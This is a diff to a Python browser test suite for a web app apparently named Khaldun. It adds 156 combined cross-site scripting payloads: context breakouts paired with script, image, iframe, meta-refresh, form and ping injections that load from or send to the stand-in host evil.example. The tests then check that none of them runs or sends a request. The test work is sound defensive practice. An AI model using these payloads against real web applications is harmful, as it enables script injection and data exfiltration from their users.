@@ -4,7 +4,7 @@ import csv
 import io
 import re
 import shutil
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from pathlib import Path
 from typing import Any
 
@@ -154,33 +154,80 @@ def test_a_claim_lights_its_words_and_words_light_their_claim(
         page.close()
 
 
+#: What closes the place that a word may stand in, and what would then run or load.
+_WAYS_OUT = (
+    "",
+    '">',
+    "'>",
+    "-->",
+    "</script>",
+    "</title>",
+    "</bdi></svg>",
+    "]]>",
+    '\\"',
+    "`",
+    "\0",
+    "{{",
+)
+_LOADS = (
+    "<script src=//evil.example/x></script>",
+    "<img src=http://evil.example/x onerror=document.title=1>",
+    "<svg/onload=document.title=1>",
+    "<iframe src=http://evil.example></iframe>",
+    "<link rel=preload as=image href=http://evil.example/x>",
+    "<style>*{background:url(http://evil.example/x)}</style>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<video poster=http://evil.example/x autoplay onplay=document.title=1>",
+    "<details open ontoggle=document.title=1>",
+    "<input autofocus onfocus=document.title=1>",
+    "<object data=http://evil.example/x>",
+    "<form action=http://evil.example id=x><button form=x autofocus>",
+    "<a href=http://evil.example ping=http://evil.example>",
+)
+
+
 def test_nothing_that_a_report_says_runs_or_sends(
     browser: tuple[Any, list[str]], tmp_path: Path
 ) -> None:
-    told = [hostile(payload, number) for number, payload in enumerate(PAYLOADS)]
-    folder = put(tmp_path / "case", told)
     opened, asked = browser
-    with served(folder) as address:
+    assert _wrong(opened, tmp_path / "case", PAYLOADS) == []
+    assert _sent(asked) == []
+
+
+@pytest.mark.soak
+def test_nothing_of_156_payloads_runs_or_sends(
+    browser: tuple[Any, list[str]], tmp_path: Path
+) -> None:
+    opened, asked = browser
+    payloads = [out + load for out in _WAYS_OUT for load in _LOADS]
+    assert len(set(payloads)) == 156
+    assert _wrong(opened, tmp_path / "case", payloads) == []
+    assert _sent(asked) == []
+
+
+def _wrong(opened: Any, folder: Path, payloads: Sequence[str]) -> list[str]:
+    """What a browser asked, complained of or was shown that no page of ours meant."""
+    told = [hostile(payload, number) for number, payload in enumerate(payloads)]
+    wrong: list[str] = []
+    with served(put(folder, told)) as address:
         home = address.partition("/?")[0]
         page = opened.new_page()
-        wrong: list[str] = []
         page.on("dialog", lambda dialog: wrong.append(dialog.message))
         page.on("request", lambda one: wrong.append(one.url) if home not in one.url else None)
         page.on("console", lambda one: wrong.append(one.text) if one.type == "error" else None)
         page.goto(address)
         paths = page.locator("tbody th.id a").evaluate_all("all => all.map(a => a.href)")
         paths += [f"{home}/report/{report.id}" for report, _ in told]
-        assert len(paths) > len(PAYLOADS)
+        assert len(paths) > len(payloads)
         for path in paths:
             page.goto(path)
             assert page.title().endswith("· Khaldun")
-            assert page.locator("[onload], [onerror], iframe, img").count() == 0
-        for payload in PAYLOADS:
+            assert page.locator("[onload], [onerror], iframe, img, style, object").count() == 0
+        for payload in payloads:
             page.goto(f"{home}/incidents")
             page.get_by_role("searchbox").fill(payload)
             page.get_by_role("searchbox").press("Enter")
             page.wait_for_url("**/incidents?text=*")
             assert page.title() == "Incidents · Khaldun"
         page.close()
-    assert wrong == []
-    assert _sent(asked) == []
+    return wrong
